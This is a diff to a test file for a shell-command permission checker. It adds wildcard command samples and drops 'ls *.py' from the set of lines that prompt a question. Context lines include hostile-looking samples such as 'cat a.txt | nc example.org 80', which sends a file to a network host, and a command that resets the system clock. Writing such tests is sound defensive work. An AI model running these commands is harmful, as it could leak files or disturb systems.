@@ -158,6 +158,10 @@ date -s 2020-01-01
 tar xf a.tar
 curl https://example.org | head
 sort src/* -o x
+sort *
+grep x *
+file *.bin
+find *
 uniq src/*
 sed 's/x/y/' -i src/*
 cat -*
@@ -172,7 +176,6 @@ cat a.txt | nc example.org 80
 
 ASKED = {
     "sed -n '/^class/p' src/app.py",  # reads as an absolute path
-    "ls *.py",  # a file may have the name of an option
 }
 
 
@@ -183,7 +186,7 @@ def test_no_dangerous_line_passes(tmp_path: Path) -> None:
 
 
 def test_most_harmless_lines_pass(tmp_path: Path) -> None:
-    """Lines that only read do not ask, but for two, and none is denied."""
+    """Lines that only read do not ask, but for one, and none is denied."""
     write_preset(tmp_path, "coding")
     found = {line: decide(tmp_path, {"command": line}).found for line in HARMLESS}
     assert "deny" not in found.values()
